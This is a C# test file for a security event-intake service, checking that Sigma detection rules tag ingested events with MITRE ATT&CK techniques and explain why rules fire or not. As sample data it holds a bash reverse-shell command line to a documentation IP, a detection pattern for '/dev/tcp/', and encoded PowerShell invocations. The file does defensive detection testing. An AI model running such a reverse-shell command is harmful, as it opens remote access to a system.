using System.Net.Http.Json;
using System.Text.Json.Nodes;
using Gatehouse.Tests.Infrastructure;

namespace Gatehouse.Tests.Intake;

/// <summary>Sigma rules in the TTP search of ingested events.</summary>
public abstract class SigmaSearchTests(Provider provider)
{
    private const string Site = GatehouseClient.DefaultSite;

    private const string EncodedPowerShell = """
        title: Encoded PowerShell
        id: 5b1c0f5e-0000-4000-8000-000000000001
        status: test
        author: Jane Analyst, Joe Hunter
        level: high
        tags:
            - attack.execution
            - attack.t1059.001
        logsource:
            category: process_creation
            product: windows
        detection:
            selection:
                Image|endswith: '\powershell.exe'
                CommandLine|contains|windash: ' -enc '
            condition: selection
        """;

    [Fact]
    public async Task A_matching_rule_tags_the_event_with_its_techniques_and_the_rule_and_its_author_as_evidence()
    {
        var rules = TempFolder.Create();
        File.WriteAllText(Path.Combine(rules, "encoded.yml"), EncodedPowerShell);
        File.WriteAllText(Path.Combine(rules, "unsupported.yml"), EncodedPowerShell.Replace("0001", "0002").Replace("Image|endswith", "Image|expand"));
        await using var factory = new GatehouseFactory(await GatehouseStore.CreateOrSkipAsync(provider), new()
        {
            ["Gatehouse:Attack:BundlePath"] = SharedData.Path("attack/enterprise-attack-18.1.json"),
            ["Gatehouse:Sigma:RulesPath"] = rules,
        });
        var admin = await factory.AdminAsync();
        // An EDR that sends Windows process events without their channel declares what they are.
        var integration = await admin.CreateIntegrationAsync(new
        {
            mainJsonPath = "$[*]",
            fieldMappings = new[] { new { field = "Title", source = "$.title" }, new { field = "Command Line", source = "$.cmd" } },
            logSource = new { product = "windows", category = "process_creation" },
        });
        var key = await admin.IntakeKeyAsync(integration, new { runMitreTtpSearch = true });

        var result = await admin.SendAndWaitAsync(integration, Site, new object[]
        {
            new { title = "raw Sysmon-style fields", Event = new { EventData = new { Image = @"C:\Windows\System32\WindowsPowerShell\v1.0\powershell.exe", CommandLine = "powershell /enc SQBFAFgA" } } },
            new { title = "mapped command line only", Image = @"C:\x\powershell.exe", cmd = "powershell -enc SQBFAFgA" },
            new { title = "not encoded", Image = @"C:\x\powershell.exe", CommandLine = "powershell -File a.ps1" },
        }, key);

        var ids = result["events"]!.AsArray().Select(e => e!["id"]!.GetValue<long>()).ToList();
        var first = (await admin.GetAsync($"/api/events/{ids[0]}"))["techniques"]!.AsArray();
        var technique = Assert.Single(first)!;
        Assert.Equal(("T1059.001", "PowerShell", "sigma", "high"),
            (technique["techniqueId"]!.GetValue<string>(), technique["techniqueName"]!.GetValue<string>(), technique["layer"]!.GetValue<string>(), technique["confidence"]!.GetValue<string>()));
        Assert.Equal("TA0002", technique["tactics"]![0]!["id"]!.GetValue<string>());
        var evidence = technique["evidence"]![0]!;
        Assert.Equal("Image", evidence["field"]!.GetValue<string>());
        Assert.Equal(("5b1c0f5e-0000-4000-8000-000000000001", "Encoded PowerShell", "high", "Jane Analyst, Joe Hunter"),
            (evidence["rule"]!["id"]!.GetValue<string>(), evidence["rule"]!["title"]!.GetValue<string>(), evidence["rule"]!["level"]!.GetValue<string>(), evidence["rule"]!["author"]!.GetValue<string>()));
        Assert.Equal("T1059.001", (await admin.GetAsync($"/api/events/{ids[1]}"))["techniques"]![0]!["techniqueId"]!.GetValue<string>());
        Assert.Empty((await admin.GetAsync($"/api/events/{ids[2]}"))["techniques"]!.AsArray());
        var filtered = await admin.GetAsync($"/api/events?integration={Uri.EscapeDataString(integration)}&technique=T1059.001");
        Assert.Equal(ids.Take(2).Order(), filtered["items"]!.AsArray().Select(e => e!["id"]!.GetValue<long>()).Order());

        Assert.Contains(factory.Logs, l => l.Contains("Sigma rule skipped: unsupported.yml: unsupported modifier 'expand'"));
        Assert.Contains(factory.Logs, l => l.Contains("Loaded Sigma rules: 1 compiled, 1 skipped"));
    }

    [Fact]
    public async Task A_real_sysmon_event_posted_by_webhook_is_matched_against_the_whole_sigmahq_folder()
    {
        var regression = SigmaRegression.Load(SharedData.Path("sigma/regression"))
            .Single(c => c.Folder.EndsWith("file_event_win_taskmgr_lsass_dump", StringComparison.Ordinal));
        await using var factory = new GatehouseFactory(await GatehouseStore.CreateOrSkipAsync(provider), new()
        {
            ["Gatehouse:Attack:BundlePath"] = SharedData.Path("attack/enterprise-attack-18.1.json"),
            ["Gatehouse:Sigma:RulesPath"] = SharedData.Path("sigma/rules"),
        });
        var admin = await factory.AdminAsync();
        var integration = await admin.CreateIntegrationAsync(new { mainJsonPath = "$", fieldMappings = new[] { new { field = "Hostname", source = "$.Event.System.Computer" } } });
        var key = await admin.IntakeKeyAsync(integration, new { runMitreTtpSearch = true });

        var result = await admin.SendAndWaitAsync(integration, Site, regression.Events[0], key);

        var id = result["events"]![0]!["id"]!.GetValue<long>();
        var techniques = (await admin.GetAsync($"/api/events/{id}"))["techniques"]!.AsArray();
        var lsass = techniques.Single(t => t!["techniqueId"]!.GetValue<string>() == "T1003.001")!;
        Assert.Equal("sigma", lsass["layer"]!.GetValue<string>());
        var rules = lsass["evidence"]!.AsArray().Select(e => e!["rule"]!).ToList();
        Assert.Contains(rules, r => r["id"]!.GetValue<string>() == regression.RuleId && r["author"]!.GetValue<string>().Length > 0);
        Assert.Contains(factory.Logs, l => l.Contains("Loaded Sigma rules: 3141 compiled, 0 skipped"));
    }
}

public sealed class SigmaLogSourceTests
{
    private const string LinuxRule = """
        title: Reverse shell by bash
        id: 7a7a7a7a-0000-4000-8000-000000000001
        author: Test Author
        level: high
        tags:
            - attack.execution
            - attack.t1059.004
        logsource:
            product: linux
            category: process_creation
        detection:
            selection:
                CommandLine|contains: '/dev/tcp/'
            condition: selection
        """;

    private const string WindowsRule = """
        title: Whoami by cmd
        id: 7a7a7a7a-0000-4000-8000-000000000002
        author: Test Author
        level: medium
        tags:
            - attack.discovery
        logsource:
            product: windows
            category: process_creation
        detection:
            selection:
                CommandLine|contains: 'whoami'
            condition: selection
        """;

    [Fact]
    public async Task An_integration_that_declares_its_log_source_gets_that_products_rules_only_and_explain_says_why_a_rule_did_not_fire()
    {
        var rules = TempFolder.Create();
        File.WriteAllText(Path.Combine(rules, "linux.yml"), LinuxRule);
        File.WriteAllText(Path.Combine(rules, "windows.yml"), WindowsRule);
        await using var factory = new GatehouseFactory(await GatehouseStore.CreateOrSkipAsync(Provider.Sqlite), new()
        {
            ["Gatehouse:Attack:BundlePath"] = SharedData.Path("attack/enterprise-attack-18.1.json"),
            ["Gatehouse:Sigma:RulesPath"] = rules,
        });
        var admin = await factory.AdminAsync();
        var integration = await admin.CreateIntegrationAsync(new
        {
            mainJsonPath = "$[*]",
            logSource = new { product = "linux", category = "process_creation" },
            sigmaFields = new Dictionary<string, string> { ["proc_cmd"] = "CommandLine" },
        });
        var key = await admin.IntakeKeyAsync(integration, new { runMitreTtpSearch = true });

        var result = await admin.SendAndWaitAsync(integration, GatehouseClient.DefaultSite, new object[]
        {
            new { proc_cmd = "bash -i >& /dev/tcp/203.0.113.9/4444 0>&1; whoami" },
            new { proc_cmd = "ls -la" },
        }, key);

        var ids = result["events"]!.AsArray().Select(e => e!["id"]!.GetValue<long>()).ToList();
        var techniques = (await admin.GetAsync($"/api/events/{ids[0]}"))["techniques"]!.AsArray();
        Assert.Equal(["T1059.004"], techniques.Select(t => t!["techniqueId"]!.GetValue<string>()));
        var windows = await admin.GetAsync($"/api/events/{ids[0]}/explain?rule=7a7a7a7a-0000-4000-8000-000000000002");
        Assert.False(windows["explanation"]!["fired"]!.GetValue<bool>());
        Assert.Contains("product 'windows', the event comes from 'linux'", windows["explanation"]!["verdict"]!.GetValue<string>());
        var quiet = await admin.GetAsync($"/api/events/{ids[1]}/explain?rule=7a7a7a7a-0000-4000-8000-000000000001");
        Assert.Contains("selection did not match", quiet["explanation"]!["verdict"]!.GetValue<string>());
        Assert.Equal(["CommandLine"], quiet["explanation"]!["fieldsPresent"]!.AsArray().Select(f => f!.GetValue<string>()));
        var fired = await admin.GetAsync($"/api/events/{ids[0]}/explain?rule=7a7a7a7a-0000-4000-8000-000000000001");
        Assert.True(fired["explanation"]!["fired"]!.GetValue<bool>());
        Assert.Equal("CommandLine", fired["explanation"]!["selections"]![0]!["witnesses"]![0]!["field"]!.GetValue<string>());
        await GatehouseClient.Problem(await admin.Http.GetAsync($"/api/events/{ids[0]}/explain?rule=nope"), System.Net.HttpStatusCode.NotFound);
        await GatehouseClient.Problem(await admin.Http.PostAsJsonAsync("/api/integrations", new { name = Unique.Name("Bad source"), eventIntake = new { mainJsonPath = "$", logSource = new { product = "Linux OS" } } }),
            System.Net.HttpStatusCode.BadRequest);
    }
}

public sealed class SigmaSearchTestsOnSqlite() : SigmaSearchTests(Provider.Sqlite);

public sealed class SigmaSearchTestsOnPostgres() : SigmaSearchTests(Provider.Postgres);
